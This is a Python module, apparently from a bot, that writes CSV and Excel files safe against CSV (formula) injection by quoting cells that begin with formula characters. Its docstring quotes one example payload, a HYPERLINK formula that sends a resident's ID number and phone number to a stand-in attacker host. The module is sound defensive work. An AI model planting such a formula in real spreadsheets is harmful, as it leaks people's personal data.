"""CSV files that are safe to open in a spreadsheet program.

Staff open every CSV file the bot writes in Excel, LibreOffice Calc or Google Sheets, and those
read a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a formula
(leading spaces do not stop them). A resident who typed
``=HYPERLINK("http://evil.example/?d="&E2&F2;"Klik")`` as an address would otherwise give the
operator a link that sends that row's NIK and phone number away. So every writer builds its rows
with this module, which puts a single quote before such a cell (the OWASP advice against "CSV
injection"): the cell is then plain text (some programs show the quote, some hide it).

A phone number ``+6281234567890`` is quoted too (``'+6281234567890``): it still reads as the
number, and stays text, where unquoted a spreadsheet would turn it into 6.28123E+12.
"""

from __future__ import annotations

import csv
import io
import math
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

FORMULA_STARTS = frozenset("=+-@")
QUOTE = "'"


def _formula_like(text: str) -> bool:
    if not text:
        return False
    # A tab or carriage return in front starts a formula; no other control character has any
    # business there either, so they are quoted all the same.
    if text[0] < " " or text[0] == "\x7f":
        return True
    return text.lstrip()[:1] in FORMULA_STARTS


def needs_quote(text: str) -> bool:
    """Whether ``neutralise`` quotes ``text``: it could be read as a formula, or it already starts
    with quotes before such a text (quoted once more, ``restore`` gives it back exactly)."""
    return _formula_like(text.lstrip(QUOTE))


def neutralise(text: str) -> str:
    """``text`` as a cell no spreadsheet reads as a formula."""
    return QUOTE + text if needs_quote(text) else text


def restore(cell: str) -> str:
    """The text ``neutralise`` was given (for the importer, which reads the bot's own exports
    back): the quote it added is taken off, any other cell is returned as it is."""
    if cell.startswith(QUOTE) and needs_quote(cell[1:]):
        return cell[1:]
    return cell


def cell(value: object) -> object:
    """A value as it is written: a finite number stays a number (-6.2717 is a latitude, never a
    formula), None is an empty cell, anything else is text and neutralised."""
    if value is None:
        return ""
    if isinstance(value, int | float) and not isinstance(value, bool) and math.isfinite(value):
        return value
    return neutralise(str(value))


def csv_text(rows: Iterable[Iterable[object]], *, lineterminator: str = "\r\n") -> str:
    """The rows as CSV, every cell through ``cell``."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator=lineterminator)
    writer.writerows([cell(value) for value in row] for row in rows)
    return buffer.getvalue()


def staff_csv(rows: Iterable[Iterable[object]]) -> bytes:
    """A CSV file for staff, header row first."""
    # The byte-order mark makes spreadsheet programs read the names' accents as UTF-8.
    return ("\ufeff" + csv_text(rows)).encode("utf-8")


@dataclass(frozen=True, slots=True)
class Column:
    """One column of a staff workbook: its header, its width in characters, and whether its
    values are text even when they look like numbers (NIK, phone, codes)."""

    header: str
    width: int
    text: bool = False


def _xlsx_cell(sheet: Any, value: object, text: bool) -> WriteOnlyCell:
    """One cell, with the same rule as ``cell``: a finite number stays a number (unless the
    column is text), anything else is a text cell, never a formula."""
    if value is None:
        value = ""
    number = isinstance(value, int | float) and not isinstance(value, bool)
    if number and not text and math.isfinite(value):  # type: ignore[arg-type]
        return WriteOnlyCell(sheet, value=value)
    content = ILLEGAL_CHARACTERS_RE.sub("", str(value))
    item = WriteOnlyCell(sheet, value=content)
    # openpyxl reads a leading "=" as a formula; the type is set back to a string, and a text
    # that a spreadsheet would read as a formula when edited gets Excel's own apostrophe flag
    # (quotePrefix): shown as typed, and it stays text after editing.
    item.data_type = "s"
    item.number_format = "@"
    if needs_quote(content):
        item.quotePrefix = True
    return item


def write_xlsx(
    path: Path, title: str, columns: Sequence[Column], rows: Iterable[Sequence[object]]
) -> None:
    """A workbook with one sheet: bold frozen header row, column widths, then the rows.

    Written in openpyxl's write-only mode straight to ``path``: a year of bookings streams to
    disk instead of building the whole workbook in memory. Blocking: call it in a thread."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet(title[:31])
    for index, column in enumerate(columns, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = column.width
    sheet.freeze_panes = "A2"
    header = []
    for column in columns:
        item = _xlsx_cell(sheet, column.header, True)
        item.font = Font(bold=True)
        header.append(item)
    sheet.append(header)
    for row in rows:
        sheet.append(
            [
                _xlsx_cell(sheet, value, column.text)
                for value, column in zip(row, columns, strict=True)
            ]
        )
    book.save(path)
